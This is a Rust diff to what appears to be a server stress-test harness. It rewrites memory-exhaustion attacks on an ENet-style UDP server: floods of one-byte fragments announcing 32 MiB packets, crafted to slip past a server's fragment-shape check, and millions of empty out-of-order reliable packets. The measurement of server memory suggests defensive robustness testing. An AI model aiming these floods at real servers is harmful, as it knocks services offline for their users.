@@ -9,6 +9,7 @@ use enet_sim::wire::{Body, Command, Fragment};
 use super::{Context, Outcome};
 use crate::pace::Pace;
 use crate::puppet::Puppet;
+use crate::sockets::Sent;
 
 /// The most that a receiver takes ahead of what it waits for.
 const AHEAD: usize = 28_000;
@@ -16,81 +17,103 @@ const AHEAD: usize = 28_000;
 /// What a server may still be busy with when an attack ends.
 const PATIENCE: Duration = Duration::from_secs(5);
 
+/// The payload of an honest sender's fragments.
+const FRAGMENT: u32 = 1364;
+
 pub(super) fn announcements(context: &Context<'_>) -> io::Result<Outcome> {
     const COUNT: usize = 25_500;
-    const TOTAL: u32 = 32 * 1024 * 1024;
-    const FRAGMENT: u32 = 1364;
-    let count = context.scale.count(COUNT);
-    let announce = |number: usize| {
-        Command::unreliable(
-            0,
-            0,
-            Body::UnreliableFragment(Fragment {
-                start: 1 + number as u16,
-                count: TOTAL.div_ceil(FRAGMENT),
-                number: 0,
-                total: TOTAL,
-                offset: 0,
-                data: Bytes::from_static(b"x"),
-            }),
-        )
+    const PER_DATAGRAM: usize = 50;
+    let announce = |index: usize| {
+        // A server that looks at how honest senders cut packets refuses the first form and with it the rest of the datagram, so
+        // each datagram has one of them.
+        let fragment = match index / PER_DATAGRAM % 2 {
+            0 => last_of_a_large_packet(),
+            _ => first_of_a_large_packet(),
+        };
+        let start = 1 + index as u16;
+        Command::unreliable(0, 0, Body::UnreliableFragment(Fragment { start, ..fragment }))
     };
-    let bytes = send_all(context, 1, (0..count).map(announce), 50)?;
-    Ok(Outcome::new(format!("{count} announced in {:.1} MiB", mib(bytes))))
+    let count = context.scale.count(COUNT);
+    let (commands, sent) = send_all(context, 1, (0..count).map(announce), PER_DATAGRAM)?;
+    Ok(Outcome::new(format!("{commands} of 32 MiB announced in {sent}")).memory_kept(context))
+}
+
+/// One byte where an honest sender has more.
+fn first_of_a_large_packet() -> Fragment {
+    const TOTAL: u32 = 32 * 1024 * 1024;
+    Fragment {
+        start: 0,
+        count: TOTAL.div_ceil(FRAGMENT),
+        number: 0,
+        total: TOTAL,
+        offset: 0,
+        data: Bytes::from_static(b"x"),
+    }
+}
+
+/// One byte that is left when the rest has been cut as honest senders do.
+fn last_of_a_large_packet() -> Fragment {
+    const LAST: u32 = 32 * 1024 * 1024 / FRAGMENT;
+    Fragment {
+        start: 0,
+        count: LAST + 1,
+        number: LAST,
+        total: LAST * FRAGMENT + 1,
+        offset: LAST * FRAGMENT,
+        data: Bytes::from_static(b"x"),
+    }
 }
 
 pub(super) fn empty_ahead(context: &Context<'_>) -> io::Result<Outcome> {
-    let count = context.scale.count(6_000_000);
-    let channels = count.div_ceil(AHEAD).min(255);
-    let ahead = (0..channels).flat_map(|channel| {
-        (0..AHEAD).map(move |number| Command::reliable(channel as u8, number as u16 + 2, Body::Reliable(Bytes::new())))
-    });
-    let bytes = send_all(context, channels as u32, ahead.take(count), 220)?;
-    Ok(Outcome::new(format!("{count} empty packets in {:.1} MiB", mib(bytes))))
+    ahead(context, |number| number)
 }
 
 pub(super) fn descending(context: &Context<'_>) -> io::Result<Outcome> {
-    let count = context.scale.count(500_000);
+    ahead(context, |number| AHEAD - 1 - number)
+}
+
+/// 6 million empty packets ahead of the first one of each channel, in an order.
+fn ahead(context: &Context<'_>, order: impl Fn(usize) -> usize) -> io::Result<Outcome> {
+    let count = context.scale.count(6_000_000);
     let channels = count.div_ceil(AHEAD).min(255);
-    let ahead = (0..channels).flat_map(|channel| {
-        (0..AHEAD)
-            .rev()
-            .map(move |number| Command::reliable(channel as u8, number as u16 + 2, Body::Reliable(Bytes::new())))
+    let packets = (0..count).map(|index| {
+        let (channel, number) = (index / AHEAD, order(index % AHEAD));
+        Command::reliable(channel as u8, number as u16 + 2, Body::Reliable(Bytes::new()))
     });
-    let bytes = send_all(context, channels as u32, ahead.take(count), 220)?;
-    Ok(Outcome::new(format!("{count} empty packets in {:.1} MiB", mib(bytes))))
+    let (commands, sent) = send_all(context, channels as u32, packets, 220)?;
+    Ok(Outcome::new(format!("{commands} empty packets in {sent}")).memory_kept(context))
 }
 
 /// Joins, sends commands evenly over the time of the attack, and leaves when the server has worked through them. Returns how
-/// many bytes that were.
+/// many of them were sent, and in what.
 fn send_all(
     context: &Context<'_>,
     channels: u32,
     commands: impl Iterator<Item = Command>,
     per_datagram: usize,
-) -> io::Result<usize> {
+) -> io::Result<(usize, Sent)> {
     let mut puppet = Puppet::join(context.target, 0, channels)?;
     let mut commands = commands.peekable();
     // Some faster than the time there is, which ends it in any case.
     let mut pace = Pace::new(4000.0, context.scale.seconds(10).max(Duration::from_secs(1)));
-    let mut bytes = 0;
-    while let Some(turns) = pace.turns() {
+    let (mut count, mut sent) = (0, Sent::default());
+    while commands.peek().is_some()
+        && let Some(turns) = pace.turns()
+    {
         for _ in 0..turns {
             let datagram: Vec<Command> = commands.by_ref().take(per_datagram).collect();
             if datagram.is_empty() {
                 break;
             }
+            let length = datagram.len();
             let datagram = puppet.datagram(puppet.peer_id, puppet.session, datagram);
-            bytes += datagram.len();
-            crate::sockets::send(puppet.socket(), &datagram);
+            if sent.send(puppet.socket(), &datagram) {
+                count += length;
+            }
         }
         puppet.listen(true);
     }
     puppet.is_alive(PATIENCE);
     puppet.leave();
-    Ok(bytes)
-}
-
-fn mib(bytes: usize) -> f64 {
-    bytes as f64 / 1_048_576.0
+    Ok((count, sent))
 }
